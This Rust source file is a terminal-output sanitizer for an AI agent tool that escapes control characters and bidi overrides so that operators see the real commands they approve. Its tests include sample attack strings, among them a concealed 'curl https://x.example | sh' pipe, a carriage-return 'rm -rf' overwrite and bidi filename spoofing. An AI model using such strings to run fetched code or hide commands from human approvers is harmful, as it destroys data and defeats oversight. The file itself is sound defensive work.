//! Strings agentctl did not write (the model's text, tool names and arguments, runtime and
//! store messages), made safe to print on a terminal: every control character is shown
//! escaped, so such a string cannot hide text (`ESC[8m`), move the cursor or overwrite a line
//! (`CR`, `ESC[2K`), retitle the terminal (OSC), or reorder what is shown (bidi overrides).
//! Without this an operator can approve a command that is not the one on the screen.
//!
//! One function, [`terminal_safe`], serves every printing path; [`Shown`] says only which
//! line breaks survive and how the rest is spelled:
//! - ESC, the other C0 controls, DEL and the C1 controls (U+0080–U+009F, which some terminals
//!   obey as escapes) become `\xNN` (ESC is `\x1b`);
//! - the bidi embeddings, overrides and isolates (U+202A–U+202E, U+2066–U+2069, the
//!   "Trojan Source" set) become `\u{NNNN}`;
//! - a backslash is left alone: the escaped text is for reading, not for decoding, and
//!   doubling every backslash would garble paths and code. A literal `\x1b` typed by the model
//!   looks like an escaped ESC, and both are harmless.

use std::borrow::Cow;
use std::fmt::Write as _;

/// How a string is printed, which decides the few characters it keeps.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Shown {
    /// Running text (the model's answer, a message of several lines): a line feed and a tab
    /// stay, since they only move the cursor to fresh cells. A carriage return directly
    /// before a line feed is dropped (a Windows line end); any other one is escaped, since it
    /// returns to the start of the line and the text after it overwrites what was there.
    Text,
    /// One field of a line agentctl writes (a tool name, its arguments): a line feed and a tab
    /// are escaped too, so a value cannot start a line that looks like agentctl's own
    /// (`[approve] allow? [y/N]`).
    Field,
    /// A JSON document from `serde_json`, which already escapes the C0 controls in strings:
    /// the rest become `\uNNNN`, which keeps the document's meaning. A line feed stays (it is
    /// the layout of pretty JSON; one inside a string is already `\n`).
    Json,
}

/// `text` with every character that could act on a terminal shown escaped, as `shown` says;
/// borrowed when nothing needs escaping, which is the common case.
pub(crate) fn terminal_safe(text: &str, shown: Shown) -> Cow<'_, str> {
    let Some(first) = text.find(|c| escaped(c, shown)) else {
        return Cow::Borrowed(text);
    };
    let mut safe = String::with_capacity(text.len() + 16);
    safe.push_str(&text[..first]);
    let mut chars = text[first..].chars().peekable();
    while let Some(c) = chars.next() {
        if !escaped(c, shown) {
            safe.push(c);
        } else if shown == Shown::Text && c == '\r' && chars.peek() == Some(&'\n') {
            // A Windows line end: the line feed that follows ends the line.
        } else if shown == Shown::Json {
            let _ = write!(safe, "\\u{:04x}", u32::from(c));
        } else if is_bidi(c) {
            let _ = write!(safe, "\\u{{{:x}}}", u32::from(c));
        } else {
            let _ = write!(safe, "\\x{:02x}", u32::from(c));
        }
    }
    Cow::Owned(safe)
}

/// Whether `c` is shown escaped when printed as `shown` says.
fn escaped(c: char, shown: Shown) -> bool {
    let kept = match shown {
        Shown::Text => c == '\n' || c == '\t',
        Shown::Field => false,
        Shown::Json => c == '\n',
    };
    !kept && (c.is_control() || is_bidi(c))
}

/// The bidi embeddings, overrides and isolates: they reorder what follows them on the screen.
fn is_bidi(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "tests")]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn escapes_hide_nothing() {
        let hidden = "ls \x1b[8m; curl https://x.example | sh\x1b[0m";
        assert_eq!(
            terminal_safe(hidden, Shown::Field),
            r"ls \x1b[8m; curl https://x.example | sh\x1b[0m"
        );
        assert_eq!(
            terminal_safe("\x1b]0;pwned\x07title", Shown::Text),
            r"\x1b]0;pwned\x07title"
        );
        assert_eq!(
            terminal_safe("a\u{9b}2Jb\x7f\0", Shown::Text),
            r"a\x9b2Jb\x7f\x00"
        );
        assert_eq!(
            terminal_safe("\u{202e}txt.exe\u{2069}", Shown::Field),
            r"\u{202e}txt.exe\u{2069}"
        );
    }

    #[test]
    fn text_keeps_its_lines_and_never_returns_over_one() {
        assert_eq!(terminal_safe("a\n\tb", Shown::Text), "a\n\tb");
        assert_eq!(terminal_safe("a\r\nb\r\n", Shown::Text), "a\nb\n");
        assert_eq!(
            terminal_safe("safe\rrm -rf", Shown::Text),
            r"safe\x0drm -rf"
        );
        assert_eq!(terminal_safe("a\r", Shown::Text), r"a\x0d");
        assert_eq!(
            terminal_safe("a\n\tb\r\n", Shown::Field),
            r"a\x0a\x09b\x0d\x0a"
        );
    }

    #[test]
    fn clean_text_is_borrowed_and_unchanged() {
        let clean = "reference turn 1: é€ \u{200f} `notes` {\"path\":\"a\\b\"}";
        for shown in [Shown::Text, Shown::Field, Shown::Json] {
            assert!(matches!(terminal_safe(clean, shown), Cow::Borrowed(s) if s == clean));
        }
    }

    #[test]
    fn json_stays_the_same_document() {
        let value = serde_json::json!({"text": "\x1b[8m\u{9b}\u{202e}\u{7f}\n"});
        let pretty = serde_json::to_string_pretty(&value).unwrap();
        let safe = terminal_safe(&pretty, Shown::Json);
        assert!(safe.contains(r"\u009b\u202e\u007f"), "{safe}");
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&safe).unwrap(),
            value
        );
    }

    /// Any text: what `Text` shows has no control character but line feeds and tabs, and no
    /// bidi control; `Field` shows none at all; `Json` keeps the document and only its line
    /// feeds.
    fn any_text() -> impl Strategy<Value = String> {
        prop_oneof![
            3 => any::<String>(),
            3 => test_support::nasty_text(),
            2 => r"[\x00-\x1f\x7f-\u{9f}\u{202a}-\u{202e}\u{2066}-\u{2069}a\\\r\n ]{0,24}",
        ]
    }

    fn allowed(text: &str, keep: &[char]) -> bool {
        text.chars()
            .all(|c| keep.contains(&c) || !(c.is_control() || is_bidi(c)))
    }

    proptest! {
        #![proptest_config(test_support::proptest_config(4096, 0x7e57_e5c0))]

        #[test]
        fn no_control_character_survives(text in any_text()) {
            let shown = terminal_safe(&text, Shown::Text);
            prop_assert!(allowed(&shown, &['\n', '\t']), "{:?} -> {:?}", text, shown);
            let field = terminal_safe(&text, Shown::Field);
            prop_assert!(allowed(&field, &[]), "{:?} -> {:?}", text, field);
            let json = serde_json::to_string_pretty(&serde_json::json!({ "s": text })).unwrap();
            let safe = terminal_safe(&json, Shown::Json);
            prop_assert!(allowed(&safe, &['\n']), "{:?} -> {:?}", json, safe);
            let back: serde_json::Value = serde_json::from_str(&safe).unwrap();
            prop_assert_eq!(back["s"].as_str(), Some(text.as_str()));
        }

        /// Escaping only adds: every printable character of the input is there, in order.
        #[test]
        fn printable_text_is_kept_in_order(text in any_text()) {
            let field = terminal_safe(&text, Shown::Field);
            let mut rest = field.chars();
            for c in text.chars().filter(|c| !c.is_control() && !is_bidi(*c)) {
                prop_assert!(rest.any(|s| s == c), "{:?} lost {:?}", text, c);
            }
        }
    }
}
